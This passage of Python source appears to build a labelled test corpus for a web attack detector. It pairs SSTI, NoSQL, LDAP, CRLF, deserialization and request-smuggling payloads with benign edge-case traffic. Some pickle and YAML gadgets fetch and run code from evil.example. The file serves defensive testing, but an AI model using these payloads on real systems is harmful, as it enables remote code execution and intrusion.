    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://' + cb + '/xlsx">]>\n'
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="&xxe;"/></Types>')
    wb = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>')
    z = stored_zip([("[Content_Types].xml", ct), ("xl/workbook.xml", wb)])
    bnd = boundary(r, "webkit")
    body = multipart_bytes([{"name": "file", "filename": "prices.xlsx",
                             "ctype": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "value": z}], bnd)
    c.raw("xlsx-stored-zip", "POST", "/import/prices", [["Content-Type", "multipart/form-data; boundary=" + bnd]], body)
    return c.items


def gen_ssti():
    c = Ctx("attacks-ssti", "ssti", "detect", WEB_HOSTS)
    g = c.get
    g("jinja-attr-hex", "/hello", "name=" + Q("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"))
    g("jinja-lipsum", "/hello", "name=" + Q("{{lipsum.__globals__.os.popen('id').read()}}"))
    g("jinja-print-statement", "/hello", "name=" + Q("{%print(lipsum|attr(\"__globals__\")|attr(\"__getitem__\")(\"os\")|attr(\"popen\")(\"id\")|attr(\"read\")())%}"))
    g("jinja-string-concat", "/hello", "name=" + Q("{{''['__cla'+'ss__']['__mr'+'o__'][1]['__subcla'+'sses__']()}}"))
    g("jinja-split-params", "/hello", "name=" + Q("{{lipsum|attr(request.args.g)|attr(request.args.gi)(request.args.o)|attr(request.args.p)(request.args.c)|attr(request.args.r)()}}")
      + "&g=__globals__&gi=__getitem__&o=os&p=popen&c=id&r=read")
    c.json("twig-filter-system", "/api/newsletter/preview", {"subject": "Hi", "body": "{{['id']|filter('system')}}"})
    c.json("twig-map-passthru", "/api/newsletter/preview", {"subject": "Hi", "body": "{{['cat /etc/passwd']|map('passthru')|join}}"})
    c.form("freemarker-new", "/admin/templates/save", form([("name", "footer"), ("content", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')]))
    c.form("velocity-runtime", "/admin/templates/save", form([("name", "header"), ("content", '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))$x.waitFor()')]))
    c.form("erb-backtick", "/profile/signature", form([("signature", "<%= `cat /etc/passwd` %>")]))
    c.form("smarty-system", "/cms/page", form([("title", "About"), ("body", "{system('id')}")]))
    g("thymeleaf-preprocess", "/doc/" + Q("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", safe="(){}$_") , "")
    g("mako-os", "/hello", "name=" + Q('${self.module.cache.util.os.system("id")}'))
    c.json("nunjucks-range-constructor", "/api/render", {"tpl": "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"})
    c.json("handlebars-with", "/api/render", {"tpl": '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}'})
    g("jinja-double-encoded", "/hello", "name=" + Q(Q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")))
    c.json("jinja-unicode-json", "/api/greeting", r'{"name":"{{ \u0027\u0027.__class__.__mro__[1].__subclasses__() }}"}')
    return c.items


def gen_nosqli():
    c = Ctx("attacks-nosqli", "nosqli", "detect", WEB_HOSTS + API_HOSTS)
    c.form("bracket-ne", "/login", "username%5B%24ne%5D=x&password%5B%24ne%5D=x")
    c.json("json-ne-unicode", "/api/auth/login", r'{"username":{"\u0024ne":null},"password":{"\u0024ne":null}}')
    c.form("regex-blind", "/login", "username=admin&password%5B%24regex%5D=%5Ea7.*")
    c.json("where-sleep", "/api/users/search", {"$where": "sleep(5000) || this.username == 'admin'"})
    c.json("duplicate-key", "/api/auth/login", '{"username":"admin","password":"x","password":{"$gt":""}}')
    c.json("json-as-text-plain", "/api/auth/login", '{"username":"admin","password":{"$gt":""}}', ctype="text/plain;charset=UTF-8")
    c.get("js-injection-where", "/api/products", "category=" + Q("shoes'; return true; var x='"), api=True)
    c.json("function-operator", "/api/reports/query",
           {"filter": {"$expr": {"$function": {"body": "function(){var d=new Date();while(new Date()-d<5000){};return true}", "args": [], "lang": "js"}}}})
    c.get("nin-array-syntax", "/api/users", "role[$nin][]=user&role[$nin][]=guest&fields=email,passwordHash", api=True)
    c.json("or-empty-clause", "/api/auth/login", {"$or": [{"username": "admin"}, {"username": {"$exists": True}}], "password": {"$ne": "x"}})
    c.get("cookie-parser-json", "/account", "", headers=[["Cookie", "user=j%3A%7B%22%24ne%22%3Anull%7D; connect.sid=s%3Aq1w2e3"]])
    c.form("pct-dollar-gt", "/login", "username=admin&password[%24gt]=")
    c.json("lookup-pipeline", "/api/orders/aggregate",
           {"pipeline": [{"$lookup": {"from": "users", "localField": "x", "foreignField": "x", "as": "u"}}, {"$project": {"u.passwordHash": 1, "u.email": 1}}]})
    return c.items


def gen_ldapi():
    c = Ctx("attacks-ldapi", "ldapi", "detect", ["intranet.example.co", "directory.example.com", "sso.example.net"])
    g = c.get
    c.form("wildcard-close", "/login", form([("user", "*)(uid=*))(|(uid=*"), ("password", "x")]))
    c.form("and-true", "/login", form([("user", "admin)(&)"), ("password", "anything")]))
    g("objectclass-or", "/people/search", "cn=" + Q("*)(|(objectClass=*)"))
    g("userpassword-or", "/people/search", "cn=" + Q("admin)(|(userPassword=*)"))
    g("double-encoded", "/people/search", "cn=%252a%2529%2528%257c%2528objectClass%253d%252a%2529")
    g("blind-description", "/people/search", "cn=" + Q("a*)(description=p*"))
    c.json("json-memberof", "/api/directory/lookup", {"user": "*)(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com"})
    c.form("userpassword-prefix", "/login", form([("user", "admin*)((|userPassword=*)"), ("password", "x")]))
    g("not-and", "/people/search", "cn=" + Q("x)(!(&(1=0"))
    g("null-truncation", "/people/search", "uid=" + Q("*))") + "%00")
    return c.items


def gen_crlf():
    c = Ctx("attacks-crlf", "crlf", "detect", WEB_HOSTS)
    g = c.get
    g("set-cookie", "/redirect", "to=/home%0d%0aSet-Cookie:%20session=attacker-fixed")
    g("response-body", "/lang", "l=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E")
    g("unicode-u560a", "/redirect", "to=/%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1")
    g("iis-u-encoding", "/Redirect.aspx", "url=/%u000d%u000aSet-Cookie:%20ASP.NET_SessionId=fixed")
    g("lf-only-location", "/redirect", "to=%0aLocation:%20https://evil.example/")
    g("double-encoded", "/redirect", "to=/home%250d%250aSet-Cookie:%2520sid=evil")
    g("in-path", "/%0d%0aX-Injected:%20true/index.html", "")
    g("hash-before-crlf", "/redirect", "to=/%23%0d%0aSet-Cookie:%20x=1")
    g("cr-only", "/redirect", "to=/home%0dSet-Cookie:%20sid=fixed")
    c.form("smtp-bcc", "/contact", form([("name", "Ann"), ("email", "ann@example.com\r\nBcc: victim1@example.org,victim2@example.org"), ("message", "hi")]))
    g("overlong-cr-lf", "/redirect", "to=/x%c0%8d%c0%8aSet-Cookie:%20a=b")
    g("header-via-param-json", "/api/download", "filename=" + Q("report.csv\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"), api=True)
    g("referer-log-injection", "/", "", headers=[["Referer", "https://example.com/%0d%0a127.0.0.1 - admin [01/Jan/2025] \"GET /admin HTTP/1.1\" 200"]])
    return c.items


def gen_generic():
    c = Ctx("attacks-generic", "generic", "detect", WEB_HOSTS + API_HOSTS)
    c.form("proto-pollution-form", "/account/settings", "__proto__%5BisAdmin%5D=true&theme=dark")
    c.form("constructor-prototype-ejs", "/render",
           "constructor[prototype][outputFunctionName]=" + QP("x;process.mainModule.require('child_process').execSync('id');//"))
    c.json("proto-unicode-key", "/api/preferences",
           r'{"\u005f_proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\u0027child_process\u0027).execSync(\u0027id\u0027).toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}')
    c.xml("yaml-python-apply", "/api/config/import", 'name: prod\nhooks: !!python/object/apply:os.system ["curl -s evil.example/x | sh"]\n',
          ctype="application/x-yaml")
    c.xml("yaml-ruby-gem", "/api/config/import", '---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n         read: 0\n         header: "abc"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n                 socket: !ruby/module \'Kernel\'\n                 method_id: :system\n             git_set: id\n         method_id: :resolve\n',
          ctype="application/x-yaml")
    c.json("jsonnet-type", "/api/Settings/Save",
           {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
            "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd", "/c calc"]},
            "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}})
    pick = b"cposix\nsystem\n(S'curl -s evil.example/p | sh'\ntR."
    c.get("pickle-cookie", "/dashboard", "", headers=[["Cookie", "session=" + base64.b64encode(pick).decode()]])
    c.get("esi-include", "/search", "q=" + Q('<esi:include src="http://evil.example/esi.html"/>'))
    c.json("constructor-json", "/api/profile", '{"name":"x","constructor":{"prototype":{"isAdmin":true,"role":"admin"}}}', method="PATCH")
    return c.items


def gen_protocol():
    c = Ctx("attacks-protocol", "protocol", "detect", WEB_HOSTS)
    smug = b"0\r\n\r\nGET /admin/users/delete?id=1 HTTP/1.1\r\nHost: localhost\r\nX-Ignore: x"
    c.raw("cl-te", "POST", "/", [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", str(len(smug))],
                                 ["Transfer-Encoding", "chunked"]], smug)
    c.raw("te-space-before-colon", "POST", "/", [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "4"],
                                                  ["Transfer-Encoding : chunked"]], b"5c\r\nGPOST /admin HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n")
    c.raw("te-xchunked", "POST", "/", [["Content-Length", str(len(smug))], ["Transfer-Encoding", "xchunked"]], smug)
    c.raw("te-duplicate", "POST", "/", [["Content-Length", str(len(smug))], ["Transfer-Encoding", "chunked"],
                                         ["Transfer-encoding", "identity"]], smug)
    c.raw("te-tab-value", "POST", "/", [["Content-Length", str(len(smug))], ["Transfer-Encoding:\tchunked"]], smug)
    c.raw("te-obs-fold", "POST", "/", [["Content-Length", str(len(smug))], ["Transfer-Encoding:"], [" chunked"]], smug)
    c.raw("cl-duplicate", "POST", "/search", [["Content-Type", "application/x-www-form-urlencoded"], ["Content-Length", "8"],
                                               ["Content-Length", "45"]], b"q=shoes&GET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n")
    c.raw("h2c-upgrade", "GET", "/admin/", [["Upgrade", "h2c"], ["HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA"],
                                             ["Connection", "Upgrade, HTTP2-Settings"]])
    c.raw("cl0-desync", "POST", "/static/css/site.css", [["Content-Type", "application/x-www-form-urlencoded"]],
          b"GET /admin/delete?user=carlos HTTP/1.1\r\nX: y")
    c.raw("te-bare-lf", "POST", "/", [["Content-Length", str(len(smug))], ["X-Foo: bar\nTransfer-Encoding: chunked"]], smug)
    c.raw("te-comma-list", "POST", "/", [["Content-Length", str(len(smug))], ["Transfer-Encoding", "gzip, chunked"]], smug)
    return c.items


ATTACK_GENERATORS = [gen_sqli, gen_xss, gen_rce, gen_lfi, gen_rfi, gen_php, gen_java, gen_ssrf, gen_xxe,
                     gen_ssti, gen_nosqli, gen_ldapi, gen_crlf, gen_generic, gen_protocol]


# ==========================================================================
# BENIGN
# ==========================================================================

SHOP_HOSTS = ["shop.example.com", "www.example-store.de", "boutique.example.fr", "store.example.jp"]
APP_HOSTS = ["app.example.io", "portal.example.net", "api.example.com", "cms.example.org"]


def hexid(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def tok(rng, n):
    return "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_") for _ in range(n))


def jwt(rng):
    h = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT","kid":"k1"}').decode().rstrip("=")
    p = base64.urlsafe_b64encode(json.dumps({"sub": str(rng.randint(10000, 99999)), "iat": 1733300000 + rng.randint(0, 99999),
                                             "scope": "read write"}).encode()).decode().rstrip("=")
    return "%s.%s.%s" % (h, p, tok(rng, 86))


def b_redirects():
    c = Ctx("benign-redirects", "benign", "pass", APP_HOSTS + SHOP_HOSTS)
    r = c.rng
    dests = ["/account/orders?page=2", "/cart?coupon=SPRING24", "/settings/billing#invoices", "/dashboard",
             "/docs/getting-started?lang=de", "/checkout/shipping?step=2&method=express",
             "/search?q=winter+jacket&size=M", "/blog/2024/05/what's-new", "/projects/42/boards?view=kanban&filter=mine"]
    for i in range(7):
        d = r.choice(dests)
        c.get("login-next", "/login", "next=" + Q(d))
    for i in range(5):
        cid = hexid(r, 24)
        ru = "https://%s/auth/callback" % r.choice(APP_HOSTS)
        c.get("oauth-authorize", "/oauth2/authorize", query([
            ("response_type", "code"), ("client_id", cid), ("redirect_uri", ru),
            ("scope", "openid profile email offline_access"), ("state", tok(r, 32)), ("nonce", tok(r, 22)),
            ("code_challenge", tok(r, 43)), ("code_challenge_method", "S256")]))
    for i in range(5):
        inner = "https://shop.example.com/cart?item=%d&qty=%d&ref=mail" % (r.randint(100, 9999), r.randint(1, 4))
        c.get("double-encoded-return", "/sso/logout", "returnTo=" + Q(Q(inner)))
    for i in range(5):
        u = "https://www.example.org/blog/2024/%02d/%s?utm_source=newsletter&utm_medium=email&utm_campaign=%s" % (
            r.randint(1, 12), r.choice(["spring-sale", "new-arrivals", "how-we-build", "year-in-review"]), r.choice(["may24", "june-digest", "q3"]))
        c.get("click-tracking", "/r", "u=" + Q(u) + "&sig=" + hexid(r, 40) + "&uid=" + str(r.randint(10**6, 10**7)))
    for i in range(4):
        saml = ('<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_%s" Version="2.0" IssueInstant="2024-11-05T10:%02d:00Z" '
                'Destination="https://app.example.io/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.com</saml:Issuer>'
                '<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status></samlp:Response>') % (hexid(r, 32), r.randint(0, 59))
        c.form("saml-post", "/saml/acs", form([("SAMLResponse", b64(saml)), ("RelayState", r.choice(dests))]))
    for i in range(4):
        c.get("oauth-callback", "/auth/callback", "code=" + tok(r, 40) + "&state=" + tok(r, 32) + "&session_state=" + hexid(r, 8) + "." + hexid(r, 8))
    return c.items


def b_files():
    c = Ctx("benign-files", "benign", "pass", APP_HOSTS + ["files.example.com", "drive.example.net"])
    r = c.rng
    names = ["Quarterly Report Q3 2024.pdf", "Résumé - José García.pdf", "Müller_Lebenslauf (2).pdf", "写真 2024-05-01.jpg",
             "Invoice #4411.xlsx", "photo's from Anna.zip", "Q3 results... final v2.pptx", "報告書.docx", "Отчёт за май.xlsx",
             "Meeting notes 12/03.txt", "Plan & Budget (draft).docx", "café-menu_été.pdf"]
    for n in names[:7]:
        c.get("download-double-encoded", "/files/download/" + Q(Q(n)), "")
    for n in names[5:]:
        c.get("download", "/attachments/" + Q(n), "disposition=attachment")
    ups = [("Müller_Lebenslauf (2).pdf", "application/pdf", "%PDF-1.7\n% binary omitted\n"),
           ("C:\\Users\\jsmith\\Documents\\Invoice #4411.csv", "text/csv", "date,amount,client\n2024-03-01,1200.00,\"Smith & Sons\"\n"),
           ("写真 2024-05-01.txt", "text/plain", "旅行のメモ\n京都 → 大阪\n"),
           ("notes (copy).md", "text/markdown", "# Packing list\n- passport\n- charger\n"),
           ("Plan & Budget (draft).txt", "text/plain", "Budget: $12,500 (approx.)\nOwner: D'Souza\n"),
           ("contacts.vcf", "text/vcard", "BEGIN:VCARD\nVERSION:3.0\nFN:Siobhán O'Neill\nTEL;TYPE=cell:+353 87 123 4567\nEND:VCARD\n")]
    for fn, ct, content in ups:
        c.mp("upload", "/api/files", [{"name": "folderId", "value": str(r.randint(100, 999))},
                                      {"name": "file", "filename": fn, "ctype": ct, "value": content}])
    for fn in ["報告書.docx", "Résumé.pdf", "Отчёт.xlsx"]:
        c.mp("upload-rfc5987", "/api/files", [{"name": "file", "disp": "form-data; name=\"file\"; filename=\"report.bin\"; filename*=UTF-8''" + Q(fn),
                                               "ctype": "application/octet-stream", "value": "PK\x03\x04 zipped content"}])
    for i in range(3):
        bnd = boundary(r, "webkit")
        img = bytes(r.randrange(256) for _ in range(r.randint(3000, 9000)))
        body = multipart_bytes([{"name": "caption", "value": r.choice(["Sunset at the lake", "Birthday cake 🎂", "Our new office"])},
                                {"name": "photo", "filename": "IMG_%04d.JPG" % r.randint(1000, 9999), "ctype": "image/jpeg",
                                 "value": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + img + b"\xff\xd9"}], bnd)
        c.raw("photo-upload-binary", "POST", "/api/photos", [["Content-Type", "multipart/form-data; boundary=" + bnd]], body)
    return c.items


I18N_QUERIES = ["東京都港区１－２－３", "ＡＢＣ株式会社 求人", "（株）サンプル商事", "＜限定＞ 春の新作ワンピース", "【送料無料】 ハンドクリーム",
                "『ノルウェイの森』 文庫", "서울특별시 강남구 맛집", "Nguyễn Thị Minh Khai", "Amélie Poulain", "Ame\u0301lie (NFD)",
                "مرحبا بالعالم", "\u200fשלום עולם\u200f", "Москва — Санкт-Петербург поезд", "Ελληνικά βιβλία", "İstanbul otelleri",
                "Straße & Gärten", "Łódź Kaliska", "ราคาโทรศัพท์", "हिंदी समाचार", "café crème brûlée", "Ｗｉ－Ｆｉ ルーター",
                "１００％ オーガニック", "Zoë's Kitchen", "naïve façade", "北京烤鸭 做法", "Ｔシャツ（白） Ｌサイズ", "ｶﾀｶﾅ ﾃｽﾄ"]


def b_i18n():
    c = Ctx("benign-i18n", "benign", "pass", SHOP_HOSTS + ["www.example.co.kr", "news.example.ru"])
    r = c.rng
    for q in I18N_QUERIES:
        c.get("search", "/search", "q=" + Q(q) + "&page=" + str(r.randint(1, 3)))
    for i in range(6):
        q = r.choice(I18N_QUERIES)
        c.form("form-search", "/search", form([("q", q), ("sort", "relevance")]))
    reviews = ["とても良い商品でした！また買いたいです。", "배송이 빨라요 👍 추천합니다", "Très bon produit, livraison rapide. Je recommande !",
               "Отличное качество, но размер маломерит.", "¡Me encantó! El color es precioso 😍", "Sehr gut – würde ich wieder kaufen.",
               "ممتاز جدا وسعر مناسب", "質感很好，物超所值。"]
    for t in reviews:
        c.json("review", "/api/reviews", {"productId": r.randint(1000, 9999), "rating": r.randint(3, 5), "text": t},
               ensure_ascii=r.random() < 0.5)
    for kw in ["中文搜索", "日本語", "한국어 검색"]:
        legacy = "".join("%%u%04X" % ord(ch) if ord(ch) > 0xFF else Q(ch) for ch in kw)
        c.get("legacy-js-escape", "/search.asp", "kw=" + legacy + "&t=" + str(r.randint(10**12, 10**13)))
    return c.items


def b_json_escapes():
    c = Ctx("benign-json-escapes", "benign", "pass", APP_HOSTS)
    r = c.rng
    bodies = [
        r'{"title":"Tom \u0026 Jerry","description":"\u003cp\u003eClassic cartoon box set\u003c/p\u003e","price":19.99}',
        r'{"html":"\u003cp\u003eHello \u003cb\u003eworld\u003c/b\u003e\u003c/p\u003e","format":"html"}',
        r'{"name":"Ren\u00e9e Fran\u00e7ois","city":"Montr\u00e9al"}',
        r'{"quote":"It\u2019s a \u201cgreat\u201d day","author":"Anon"}',
        r'{"message":"Happy birthday \ud83c\udf82\ud83c\udf89","to":"mom"}',
        r'{"url":"https:\/\/www.example.com\/products\/42?ref=app","shared":true}',
        r'{"note":"Line one\nLine two\n\tindented","tags":["a","b"]}',
        r'{"path":"C:\\Users\\anna\\Pictures\\2024","sync":true}',
        r'{"query":"rock \u0027n\u0027 roll","limit":20}',
        r'{"greeting":"\u3053\u3093\u306b\u3061\u306f","lang":"ja"}',
        r'{"label":"A \u003e B \u0026\u0026 C \u003c D","type":"comparison"}',
        r'{"link":"\u003ca href=\"https://example.com/help\"\u003eHelp\u003c/a\u003e"}',
        r'{"comment":"50\u0025 off everything!","pinned":false}',
        r'{"address":"12 O\u0027Connell St, Dublin","country":"IE"}',
        r'{"title":"Caf\u00e9 \u2013 Men\u00fc","currency":"\u20ac"}',
    ]
    for b in bodies:
        c.json("go-or-ascii-escaped", r.choice(["/api/items", "/api/messages", "/api/notes", "/api/v2/content"]), b)
    for i in range(10):
        obj = {"event": r.choice(["page_view", "add_to_cart", "search", "purchase"]), "ts": 1733300000000 + r.randint(0, 10**8),
               "props": {"title": r.choice(["Men's Shoes – Sale", "Zoë & Co. | Home", "“Best of 2024”", "Fußball-Trikots"]),
                         "path": r.choice(["/c/shoes?sort=price_asc", "/p/12345", "/search?q=caf%C3%A9"])}}
        c.json("analytics-ascii", "/collect", json.dumps(obj, ensure_ascii=True), api=False)
    return c.items


def b_emoji():
    c = Ctx("benign-emoji", "benign", "pass", APP_HOSTS)
    r = c.rng
    msgs = ["Great job team 🎉🎉", "👍🏽 sounds good", "Family: 👨‍👩‍👧‍👦 at the beach 🏖️", "🇯🇵 → 🇫🇷 flight booked ✈️",
            "Love it ❤️‍🔥", "🤔 not sure about the blue one", "🙏 thanks!!", "Pizza tonight? 🍕🍺", "🧑🏻‍💻 working from home today",
            "⚠️ Store closed Monday", "🥳 10 years! 🎂", "ok 👌", "rain again ☔️☔️", "Go team 🏳️‍🌈", "🐶🐱 adoption day Saturday"]
    for m in msgs:
        if r.random() < 0.5:
            c.json("chat", "/api/channels/%d/messages" % r.randint(1, 99), {"text": m, "clientMsgId": hexid(r, 16)})
        else:
            c.form("status", "/status", form([("status", m), ("visibility", "friends")]))
    return c.items


PRODUCTS = ["Select Comfort mattress topper", "Drop ALT mechanical keyboard", "Script MT Bold font license", "Cat6 Ethernet cable 10 ft",
            "Union Pacific model train set", "Exec office chair", "Java Moss for aquariums", "Ball python terrarium kit",
            "Ruby red grapefruit juice 1L", "Alert 1 smoke detector", "Or & Zon scented candle", "Table for two (walnut)",
            "Sleep Number 360 bed", "Delete key keycap", "Insert coin arcade decal", "Where's Waldo? book", "C++ Primer 5th ed.",
            "Node.js in Action", "The C Programming Language (K&R)", "Echo Dot 5th gen", "Shell Helix engine oil 5W-30",
            "Kernel corn popcorn", "Root beer 12-pack", "Cookie jar (ceramic)", "Sudoku puzzles vol. 3", "Fetch dog toy",
            "Eval board ESP32-C3", "Bash & Lucy plush", "From Here to Eternity DVD", "Order of the Phoenix (paperback)"]


def b_products():
    c = Ctx("benign-products", "benign", "pass", SHOP_HOSTS)
    r = c.rng
    for p in PRODUCTS:
        k = r.random()
        if k < 0.5:
            c.get("search", "/search", "q=" + QP(p) + "&category=all")
        elif k < 0.8:
            c.json("cart-add", "/api/cart/items", {"sku": "SKU-%05d" % r.randint(0, 99999), "name": p, "qty": r.randint(1, 3)})
        else:
            c.form("wishlist", "/wishlist/add", form([("product", p), ("note", "gift idea")]))
    return c.items


MATH = ["2*(3+4)/7", "x^2 + y^2 = r^2", "1 < x < 5", "f(x) = sin(x)/x", "e^(i*pi) + 1 = 0", "√2 ≈ 1.414", "∑ i=1..n i = n(n+1)/2",
        "6.02e23", "1e-9", "3.5E+4 * 2", "(a+b)*(a-b) = a^2 - b^2", "50% of 80", "log(100) = 2", "sqrt(16) + 4!", "10 mod 3 = 1",
        "a<b && b>c", "5'11\" in cm", "120/80 mmHg", "y = mx + b", "1/3 + 1/6 = 1/2"]


def b_math():
    c = Ctx("benign-math", "benign", "pass", ["calc.example.com", "learn.example.org", "sheets.example.io"])
    r = c.rng
    for m in MATH:
        k = r.random()
        if k < 0.4:
            c.get("calculator", "/calculate", "expr=" + Q(m))
        elif k < 0.7:
            c.json("homework", "/api/answers", {"questionId": r.randint(1, 500), "answer": m, "showWork": True})
        else:
            c.form("forum-post", "/forum/post", form([("topic", "Algebra help"), ("body", "Can someone check this: " + m + " ?")]))
    return c.items


NAMES = ["Siobhán O'Neill", "D'Angelo Russell", "Conan O'Brien", "Jean-Luc D'Souza", "Mary-Kate O'Connor", "N'Golo Kanté",
         "Ta'Quan Jones", "Dell'Olio Marco", "L'Oréal Paris", "Children's Hospital", "McDonald's", "Rock 'n' Roll Hall",
         "Pat O’Malley", "Zoë d’Aubigné", "Eddie \"The Eagle\" Edwards", "12\" pizza, extra cheese", "Ol' Dirty Diner",
         "Guns N' Roses tickets", "5'11\" / 180 lbs", "Toys\"R\"Us gift card"]


def b_quotes():
    c = Ctx("benign-quotes", "benign", "pass", APP_HOSTS + SHOP_HOSTS)
    r = c.rng
    for n in NAMES:
        k = r.random()
        if k < 0.3:
            c.get("search", "/search", "q=" + Q(n))
        elif k < 0.6:
            c.form("signup", "/register", form([("full_name", n), ("email", "user%d@example.com" % r.randint(1, 999)),
                                                ("password", tok(r, 14)), ("terms", "on")]))
        elif k < 0.85:
            c.json("profile", "/api/me", {"displayName": n, "bio": r.choice(["It's me!", "Don't panic.", "\"Carpe diem\"", "Pizza > salad"])}, method="PATCH")
        else:
            c.get("cookie-name", "/account", "", headers=[["Cookie", "display_name=" + Q(n) + "; _ga=GA1.2.%d.%d" % (r.randint(10**8, 10**9), 1733300000)]])
    for q in ['"exact phrase" -exclude', "site reliability 'SRE' jobs", "it's complicated", "who's on first?",
              "don't stop believin'", "“smart quotes” test", "Men's & Women's", "O'Reilly books", "'90s fashion", "Levi's 501 32\""]:
        c.get("quoted-search", "/search", "q=" + QP(q))
    return c.items


RICH = [
    '<p style="color:#333;font-family:\'Helvetica Neue\',Arial,sans-serif;font-size:14px">Dear customer,</p><p>Your order has shipped.</p>',
    '<span style="background-image:url(\'https://cdn.example.com/img/banner.png\');background-size:cover">Summer Sale</span>',
    '<table style="width:100%;border-collapse:collapse"><tr><td style="padding:8px;border:1px solid #ddd">Item</td><td style="text-align:right">€12.00</td></tr></table>',
    '<h2>Opening hours</h2><ul><li>Mon–Fri: 9:00–18:00</li><li>Sat: 10:00–14:00</li></ul>',
    '<p><a href="https://www.example.org/menu.pdf" target="_blank" rel="noopener">Download our menu</a></p>',
    '<p><img src="https://cdn.example.com/uploads/2024/05/cake.jpg" alt="Chocolate cake" width="600" height="400"></p>',
    '<blockquote style="border-left:4px solid #ccc;margin:0;padding-left:12px"><em>Best coffee in town</em> — Local Times</blockquote>',
    '<p style="margin:0 auto;max-width:640px;line-height:1.6">We\'re hiring! Join our team in Berlin &amp; Lisbon.</p>',
    '<div class="callout callout--info" style="border-radius:6px;padding:12px 16px"><strong>Note:</strong> prices include VAT.</div>',
    '<p>Use code <code>SPRING24</code> at checkout &mdash; valid until 31/05.</p>',
    '<p style="font:italic bold 12px/30px Georgia,serif">Handmade in Portugal</p>',
    '<ol><li>Preheat oven to 180&deg;C</li><li>Mix flour &amp; sugar</li><li>Bake 25&ndash;30 min</li></ol>',
]


def b_richtext():
    c = Ctx("benign-richtext", "benign", "pass", ["cms.example.org", "mail.example.com", "shop.example.com"])
    r = c.rng
    for i in range(25):
        html = "".join(r.sample(RICH, r.randint(1, 3)))
        k = r.random()
        if k < 0.4:
            c.json("cms-save", "/api/pages/%d" % r.randint(1, 300), {"title": r.choice(["About us", "Menu", "Careers", "Newsletter May"]),
                                                                     "content": html, "status": "draft"}, method="PUT")
        elif k < 0.7:
            c.form("email-template", "/campaigns/%d/content" % r.randint(1, 90), form([("subject", "Our May newsletter"), ("html", html)]))
        else:
            c.mp("product-description", "/admin/products/%d" % r.randint(1, 900), [
                {"name": "title", "value": r.choice(PRODUCTS)}, {"name": "description_html", "value": html},
                {"name": "price", "value": "%d.%02d" % (r.randint(5, 300), r.randint(0, 99))}])
    return c.items


MARKDOWN = [
    "Use the `Save` button, then **Publish**.",
    "> Quote from the manual:\n> *Keep the receipt.*",
    "Shortcut: press `Ctrl+S` (or `⌘S` on Mac).",
    "| Size | Chest |\n|---|---|\n| M | 96 cm |\n| L | 102 cm |",
    "See [our FAQ](https://help.example.com/faq#returns) for returns.",
    "Steps:\n1. Open *Settings*\n2. Click **Account**\n3. Choose `Delete photos`",
    "~~Old price~~ **New price: $19**",
    "Recipe: `2 cups` flour, `1 tsp` salt — bake at `200°C`.",
    "![Our shop](https://cdn.example.com/shop.jpg)",
    "Meeting at **10:30** -- bring the `Q3 deck`.",
]


def b_markdown():
